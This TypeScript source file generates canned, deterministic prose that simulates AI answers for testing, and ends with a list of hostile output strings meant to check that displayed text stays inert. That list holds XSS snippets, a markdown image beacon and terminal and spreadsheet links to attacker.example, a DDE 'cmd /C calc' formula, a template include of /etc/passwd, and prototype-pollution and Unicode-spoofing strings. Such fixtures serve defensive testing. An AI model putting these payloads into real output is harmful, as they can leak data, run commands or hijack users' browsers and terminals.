import type { Random } from './prng';

/** Cheap deterministic prose about a prompt, varied enough to compress and diff like real answers. */

type Sentence = (topic: string, random: Random) => string;

const ASPECTS = [
  'scope', 'cost', 'timing', 'the evidence', 'the wording', 'the context', 'the main risk', 'the effort', 'consistency',
  'the first step', 'the open question', 'the detail', 'the order of things', 'the result',
] as const; // prettier-ignore

const JUDGEMENTS = [
  'a clear advantage', 'a common weakness', 'the deciding factor', 'a minor concern', 'the safest starting point',
  'worth a closer look', 'easy to underestimate', 'well understood', 'more important than it first appears',
  'rarely the bottleneck',
] as const; // prettier-ignore

const READERS = [
  'a newcomer',
  'an expert',
  'the team',
  'most readers',
  'a reviewer',
  'whoever decides',
] as const;

const ACTIONS = [
  'compare two or three options', 'write down what really matters', 'try it on a small case first',
  'ask who has done it before', 'start small and measure the result', 'separate facts from assumptions',
  'keep a record of every assumption', 'review the decision after a month',
] as const; // prettier-ignore

const SENTENCES: readonly [Sentence, ...Sentence[]] = [
  (topic, r) => `As for ${topic}, ${r.pick(ASPECTS)} is ${r.pick(JUDGEMENTS)}.`,
  (topic, r) => `With ${topic}, ${r.pick(READERS)} would look at ${r.pick(ASPECTS)} before ${r.pick(ASPECTS)}.`,
  (topic, r) => `It helps to ${r.pick(ACTIONS)} where ${topic} is concerned.`,
  (topic, r) => `Views on ${topic} differ: ${r.pick(READERS)} may stress ${r.pick(ASPECTS)}, another ${r.pick(ASPECTS)}.`,
  (topic, r) => `Whoever works on ${topic} should ${r.pick(ACTIONS)}.`,
  (topic, r) => `One caveat about ${topic}: ${r.pick(ASPECTS)} may change, and is ${r.pick(JUDGEMENTS)}.`,
  (topic, r) => `If ${r.pick(ASPECTS)} matters most for ${topic}, ${r.pick(ACTIONS)}.`,
]; // prettier-ignore

/** The closing sentence tells a complete answer from a truncated one, and says that this one is simulated. */
const CLOSING: Sentence = (topic, r) =>
  `More than this a practice answer cannot say about ${topic}: ${r.pick(ACTIONS)}, and treat ${r.pick(ASPECTS)} as ${r.pick(JUDGEMENTS)}.`;

/** Each vendor's practice models have a tone: to the point, cautious, or welcoming. */
export type Tone = 'terse' | 'careful' | 'chatty';

/** Prose in a tone: adds what that tone opens and closes with. */
export function inTone(sentences: readonly string[], topic: string, tone: Tone): string[] {
  if (tone === 'chatty') return [`Happy to help with ${topic}!`, ...sentences];
  if (tone === 'careful')
    return [...sentences, 'I may be missing context here, so please check it before you rely on it.'];
  return [...sentences];
}

export function sentenceAbout(topic: string, random: Random): string {
  return random.pick(SENTENCES)(topic, random);
}

/** Function words, and words that say how to answer rather than what about. */
const STOP_WORDS = new Set(
  `a about above after all also am an and answer any are as at be because been before below but by can could did do does
  each exactly every following for from give had has have he her here his how i if in into is it its just list make may me
  might more most must my name no not number of on one only or our out please reply respond return said say sentence
  sentences she should so some such table tell than that the their them then there these they this those three to two up us
  use very was bullet bullets classify code column columns compare describe explain function ideas into label labels markdown
  numbered object points program query rate script sort steps sum summarise summarize table translate python javascript
  typescript sql bash was we were what when where which who why will with within word words would write yes you your json`.split(
    /\s+/,
  ),
);

/** Names of columns and languages are not the topic. */
const FORM_DETAILS = /\b[Cc]olumns?\b[^.\n]*|\b[Tt]ranslate\b[^.:\n]*:/gu;

/** What the prompt is about: a few consecutive words of it. */
export function topicOf(prompt: string, random: Random): string {
  const runs: string[] = [];
  for (const part of prompt
    .slice(0, 2_000)
    .replaceAll(FORM_DETAILS, ' ')
    .split(/[.,;:!?()[\]{}"“”\n]+/u)) {
    let run: string[] = [];
    const end = () => {
      if (run.length > 0) runs.push(run.join(' '));
      run = [];
    };
    for (const word of part.match(/[\p{L}\p{N}][\p{L}\p{N}'’-]*/gu) ?? []) {
      if (STOP_WORDS.has(word.toLowerCase()) || run.length === 3) end();
      if (!STOP_WORDS.has(word.toLowerCase())) run.push(word);
    }
    end();
  }
  const full = runs.filter((run) => run.length >= 4);
  const [first, ...more] = full.length > 0 ? full : runs;
  return first === undefined ? 'this question' : random.pick([first, ...more]).slice(0, 80);
}

/** Sentences about the topic, `targetChars` long in total. */
export function proseSentences(topic: string, random: Random, targetChars: number): string[] {
  const sentences: string[] = [];
  let length = 0;
  while (length < targetChars - 120) {
    const sentence = sentenceAbout(topic, random);
    sentences.push(sentence);
    length += sentence.length + 1;
  }
  sentences.push(CLOSING(topic, random));
  return sentences;
}

/** A short phrase for a field of a JSON answer. */
export function phrase(name: string, topic: string, random: Random): string {
  const label = name === '' ? 'Note' : name.replaceAll(/[_-]+/g, ' ');
  return `${label} on ${topic}: ${random.pick(ASPECTS)} is ${random.pick(JUDGEMENTS)}`;
}

export function searchQuery(topic: string, random: Random): string {
  return `${topic} ${random.pick(ASPECTS)}`;
}

/** What a hostile or confused model may say; each line must stay inert wherever it is displayed. */
export const HOSTILE_LINES = [
  '<script>globalThis.pwned = 1</script><img src=x onerror="globalThis.pwned=2">',
  '<svg/onload=globalThis.pwned=3><iframe srcdoc="<script>parent.pwned=4</script>"></iframe>',
  '[click](javascript:globalThis.pwned=5) ![beacon](https://attacker.example/p.png?leak=1)',
  '\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b]8;;https://attacker.example\u0007link\u001b]8;;\u0007 \u001b[2J',
  '=HYPERLINK("https://attacker.example","open") +cmd|\' /C calc\'!A0 @SUM(1+1)',
  '{{ "now" | date: "%Y" }} ${7*7} {% include "/etc/passwd" %}',
  '\u202Etxt.exe\u202C zero\u200Bwidth nul\u0000byte lone\uD800surrogate',
  '{"__proto__":{"polluted":true}} </textarea></style></title>--></pre>',
] as const;
